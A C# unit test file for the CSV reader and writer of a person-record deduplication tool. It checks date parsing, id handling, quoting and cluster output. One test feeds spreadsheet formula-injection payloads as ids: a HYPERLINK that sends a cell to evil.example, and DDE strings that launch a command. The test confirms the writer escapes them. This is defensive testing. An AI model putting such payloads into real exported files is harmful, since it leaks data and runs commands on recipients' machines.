using Panah.Cli.Dedupe;

namespace Panah.Matching.Tests;

public sealed class PersonCsvTests
{
    private const string Header = "id,given_name,family_name,father_name,sex,birth_date,birth_place,phone,document_number,address\n";

    private static (List<PersonRecord> People, List<CsvProblem> Problems) Read(string text)
    {
        var problems = new List<CsvProblem>();
        var people = PersonCsv.Read(new StringReader(text), problems);
        return (people, problems);
    }

    [Fact]
    public void Reads_a_well_formed_file()
    {
        var (people, problems) = Read(Header + "1,Abdurehim,Tursun,Tursun,m,1984-06-17,Qeshqer,0532 123 45 67,99123456780,Zeytinburnu\n");
        Assert.Empty(problems);
        var p = Assert.Single(people);
        Assert.Equal("Abdurehim", p.GivenName);
        Assert.Equal(new DateOnly(1984, 6, 17), p.BirthDate);
        Assert.Equal("Zeytinburnu", p.Address);
    }

    [Fact]
    public void Malformed_dates_are_reported_with_their_line_and_used_as_far_as_possible()
    {
        var (people, problems) = Read(Header + "1,A,B,,,1984-13-45,,,,\n2,C,D,,,17.06.1984,,,,\n3,E,F,,,unknown,,,,\n");
        Assert.Equal(new DateOnly(1984, 1, 1), people[0].BirthDate);
        Assert.Equal(new DateOnly(1984, 6, 17), people[1].BirthDate);
        Assert.Null(people[2].BirthDate);
        Assert.Equal([2, 3, 4], problems.Select(p => p.Line));
        Assert.Contains("1984-13-45", problems[0].Message);
    }

    [Fact]
    public void An_email_column_is_accepted_and_a_malformed_email_reported_without_its_value()
    {
        var (people, problems) = Read("id,given_name,email\n1,Abdurehim, Abdurehim.Tursun@Example.org\n2,Ehmet,ehmet at example\n3,Nur,\n");
        Assert.Equal(3, people.Count);
        var problem = Assert.Single(problems);
        Assert.Equal(3, problem.Line);
        Assert.Contains("email", problem.Message);
        Assert.DoesNotContain("ehmet at example", problem.Message);
    }

    [Fact]
    public void A_row_without_an_id_is_reported_and_skipped()
    {
        var (people, problems) = Read(Header + ",A,B,,,,,,,\n2,C,D,,,,,,,\n");
        Assert.Equal("2", Assert.Single(people).Id);
        var problem = Assert.Single(problems);
        Assert.Equal(2, problem.Line);
        Assert.Contains("no id", problem.Message);
    }

    [Fact]
    public void A_repeated_id_is_reported_and_skipped()
    {
        var (people, problems) = Read(Header + "1,A,,,,,,,,\n1,B,,,,,,,,\n");
        Assert.Equal("A", Assert.Single(people).GivenName);
        Assert.Equal(3, Assert.Single(problems).Line);
    }

    [Fact]
    public void Ragged_rows_are_reported_and_read()
    {
        var (people, problems) = Read(Header + "1,Abdurehim,Tursun\n2,Ehmet,Tohti,Tohti,m,1990-01-01,Aqsu,,,Fatih,extra\n");
        Assert.Equal(2, people.Count);
        Assert.Equal("Tursun", people[0].FamilyName);
        Assert.Null(people[0].Address);
        Assert.Equal("Fatih", people[1].Address);
        Assert.Equal([2, 3], problems.Select(p => p.Line));
    }

    [Fact]
    public void A_byte_order_mark_is_ignored()
    {
        var (people, problems) = Read("\uFEFF" + Header + "1,Abdurehim,,,,,,,,\n");
        Assert.Empty(problems);
        Assert.Equal("1", Assert.Single(people).Id);
    }

    [Fact]
    public void A_byte_order_mark_is_ignored_in_a_file()
    {
        var path = Path.GetTempFileName();
        try
        {
            File.WriteAllText(path, Header + "1,Abdurehim,,,,,,,,\n", new System.Text.UTF8Encoding(true));
            var problems = new List<CsvProblem>();
            Assert.Equal("1", Assert.Single(PersonCsv.ReadFile(path, problems)).Id);
            Assert.Empty(problems);
        }
        finally
        {
            File.Delete(path);
        }
    }

    [Fact]
    public void Quoted_values_keep_commas_quotes_and_line_breaks()
    {
        var (people, problems) = Read(Header + "1,\"Abdurehim, Jr\",\"O\"\"Tursun\",,,,,,,\"Gül Sokak 5,\nZeytinburnu\"\n2,Ehmet,,,,,,,,\n");
        Assert.Empty(problems);
        Assert.Equal("Abdurehim, Jr", people[0].GivenName);
        Assert.Equal("O\"Tursun", people[0].FamilyName);
        Assert.Equal("Gül Sokak 5,\nZeytinburnu", people[0].Address);
        Assert.Equal("2", people[1].Id);
    }

    [Fact]
    public void Columns_in_any_order_and_extra_columns()
    {
        var (people, problems) = Read("note,birth_date,ID,given_name\nhello,1984-06-17,7,Abdurehim\n");
        Assert.Empty(problems);
        var p = Assert.Single(people);
        Assert.Equal("7", p.Id);
        Assert.Equal("Abdurehim", p.GivenName);
        Assert.Equal(new DateOnly(1984, 6, 17), p.BirthDate);
    }

    [Fact]
    public void A_header_without_id_is_a_problem()
    {
        var (people, problems) = Read("given_name\nAbdurehim\n");
        Assert.Empty(people);
        Assert.Equal(1, Assert.Single(problems).Line);
    }

    [Fact]
    public void Clusters_are_written_for_every_id_once()
    {
        var (people, _) = Read(Header + "a,Abdurehim,Tursun,,m,1984-01-01,,0532 123 45 67,,\nb,Абдурехим,Турсун,,m,1984-06-17,,+90 532 123 45 67,,\nc,\"Gülnar, Meryem\",Ehmet,,f,1990-02-03,,,,\n");
        var result = new Deduplicator(new DedupeOptions { RandomPairs = 100 }).Run(people, MatchModel.Default);
        var path = Path.GetTempFileName();
        try
        {
            PersonCsv.WriteClusters(path, people, result.ClusterLabels());
            var lines = File.ReadAllLines(path);
            Assert.Equal("id,cluster", lines[0]);
            Assert.Equal(["a,a", "b,a", "c,c"], lines[1..]);
        }
        finally
        {
            File.Delete(path);
        }
    }

    [Theory]
    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public void Ids_that_a_spreadsheet_would_run_as_a_formula_are_written_as_text(string id)
    {
        var people = new List<PersonRecord> { new(id), new("plain-7") };
        var path = Path.GetTempFileName();
        try
        {
            PersonCsv.WriteClusters(path, people, [id, "plain-7"]);
            PersonCsv.WriteReview(path + ".review", [new ScoredPair(id, "plain-7", 1.5, 0.5)]);
            var (read, problems) = Read(File.ReadAllText(path).Replace("id,cluster", "id,given_name", StringComparison.Ordinal));
            Assert.Empty(problems);
            Assert.Equal(["'" + id, "plain-7"], read.Select(p => p.Id));
            Assert.Equal("'" + id, read[0].GivenName);
            var review = File.ReadAllText(path + ".review");
            review = review[(review.IndexOf('\n', StringComparison.Ordinal) + 1)..]; // a quoted cell may hold a carriage return
            Assert.StartsWith(review.StartsWith('"') ? "\"'" : "'", review, StringComparison.Ordinal);
            Assert.Contains(",plain-7,", review, StringComparison.Ordinal);
        }
        finally
        {
            File.Delete(path);
            File.Delete(path + ".review");
        }
    }
}
